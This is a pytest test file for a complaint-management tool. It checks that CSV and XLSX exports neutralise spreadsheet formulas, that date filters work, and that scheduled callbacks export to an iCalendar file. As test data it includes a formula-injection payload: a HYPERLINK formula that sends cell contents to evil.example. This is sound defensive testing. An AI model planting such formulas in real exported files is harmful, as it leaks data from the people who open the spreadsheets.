"""Exporting complaints to CSV/XLSX (formula-safe) and callbacks to an iCalendar file."""

from __future__ import annotations

import csv
import io
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from ceo_desk.cli import main
from ceo_desk.core.safety import exporter
from ceo_desk.core.services import complaints, promises
from ceo_desk.store.db import Database
from tests.builders import add_staff, log, resolve

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _fill(db: Database) -> dict[str, str]:
    staff = add_staff(db)
    refs = {
        "old": log(db, summary="Old one", received_at=datetime.now(UTC) - timedelta(days=400)),
        "evil": log(db, name="+Mallory", phone="+15555550199", summary=EVIL, details="@SUM(1+1)"),
        "done": log(db, name="Ann Lee", phone="+15555550142", summary="Resolved one"),
        "waiting": log(db, name="Cleo Fox", phone="+15555550100", summary="Waiting for a call"),
    }
    resolve(db, refs["done"], staff, cost="120.50")
    with db.transaction() as uow:
        complaints.delegate(uow, refs["waiting"], staff)
    with db.transaction() as uow:
        complaints.file_report(
            uow,
            refs["waiting"],
            complaints.ReportInput(
                said="Sorry", done="Replaced the kettle", accommodation="Voucher"
            ),
        )
    return refs


def _csv_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    # The headings are the fields' labels, as in the workbook.
    columns = [exporter.COLUMN_OF_HEADING[heading] for heading in next(reader)]
    return [dict(zip(columns, row, strict=True)) for row in reader]


def test_csv_export_has_one_row_per_complaint_and_runs_no_formula(
    db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    refs = _fill(db)
    out = tmp_path / "all.csv"
    assert main(["export", "-o", str(out), "--db", db.url]) == 0
    assert "Exported 4" in capsys.readouterr().out
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = {r["reference"]: r for r in _csv_rows(out)}
    assert set(rows) == set(refs.values())
    evil = rows[refs["evil"]]
    assert evil["summary"] == "'" + EVIL
    assert evil["details"] == "'@SUM(1+1)"
    assert evil["customer_name"] == "'+Mallory"
    done = rows[refs["done"]]
    assert done["status"] == "Resolved" and done["cost"] == "USD 120.50"
    assert done["last_satisfaction"] == "5" and done["closed_at"]


def test_export_between_dates(db: Database, tmp_path: Path) -> None:
    refs = _fill(db)
    out = tmp_path / "recent.csv"
    since = (datetime.now() - timedelta(days=30)).date().isoformat()
    assert main(["export", "--from", since, "-o", str(out), "--db", db.url]) == 0
    assert refs["old"] not in {r["reference"] for r in _csv_rows(out)}
    until = (datetime.now() - timedelta(days=300)).date().isoformat()
    assert main(["export", "--to", until, "-o", str(out), "--force", "--db", db.url]) == 0
    assert [r["reference"] for r in _csv_rows(out)] == [refs["old"]]


def test_xlsx_export_holds_text_not_formulas(sqlite_db: Database, tmp_path: Path) -> None:
    refs = _fill(sqlite_db)
    out = tmp_path / "all.xlsx"
    assert main(["export", "-o", str(out), "--db", str(sqlite_db.sqlite_path)]) == 0
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Reference", "Status", "Received"]  # headings a person reads
    columns = [exporter.COLUMN_OF_HEADING[h] for h in header]
    rows = [dict(zip(columns, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    evil = next(r for r in rows if r["reference"].value == refs["evil"])
    # The text as typed, marked as text by the hidden quote prefix, not a visible apostrophe.
    assert evil["summary"].value == EVIL
    assert evil["summary"].quotePrefix
    phone = evil["customer_phone"]
    assert phone.data_type == "s" and not str(phone.value).startswith("'")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_export_refuses_unknown_formats_and_reversed_dates(
    sqlite_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db_arg = ["--db", str(sqlite_db.sqlite_path)]
    assert main(["export", "-o", str(tmp_path / "x.pdf"), *db_arg]) == 2
    assert ".csv or .xlsx" in capsys.readouterr().err
    assert (
        main(
            [
                "export",
                "--from",
                "2026-05-01",
                "--to",
                "2026-04-01",
                "-o",
                str(tmp_path / "x.csv"),
                *db_arg,
            ]
        )
        == 2
    )
    assert "after" in capsys.readouterr().err


def test_callbacks_calendar_lists_scheduled_confirmation_calls(
    sqlite_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    refs = _fill(sqlite_db)
    out = tmp_path / "callbacks.ics"
    assert main(["export-callbacks", "-o", str(out), "--db", str(sqlite_db.sqlite_path)]) == 0
    assert "1 scheduled callback" in capsys.readouterr().out
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    calendar = Calendar.from_ical(out.read_bytes())
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 1
    event = events[0]
    assert str(event["summary"]) == f"Call back Cleo Fox ({refs['waiting']})"
    assert "+1 555-555-0100" in str(event["description"])
    assert "Replaced the kettle" in str(event["description"])
    assert event.decoded("dtstart") > datetime.now().date() - timedelta(days=1)


def test_the_workbook_carries_promises_flags_and_the_vulnerable_mark(
    sqlite_db: Database, tmp_path: Path
) -> None:
    with sqlite_db.transaction() as uow:
        complaints.log_call(
            uow,
            complaints.CallInput(
                customer_name="Ann Lee",
                phone="+15555550142",
                summary="Charged twice",
                received_at=datetime(2026, 3, 2, 9, 0, tzinfo=UTC),
                vulnerable=True,
                flag_regulator=True,
                promises=(
                    promises.PromiseInput("Refund the charge", "2026-03-04"),
                    promises.PromiseInput("=Ring back", "2026-03-09"),
                ),
            ),
        )
    out = tmp_path / "all.xlsx"
    assert main(["export", "-o", str(out), "--db", str(sqlite_db.sqlite_path)]) == 0
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    [row] = [dict(zip(header, (c.value for c in r), strict=True)) for r in sheet.iter_rows(2)]
    assert row["Promises"] == "2026-03-04: Refund the charge\n2026-03-09: =Ring back"
    assert (row["Vulnerable customer"], row["Regulator involved"], row["MP involved"]) == (
        "yes",
        "yes",
        "no",
    )
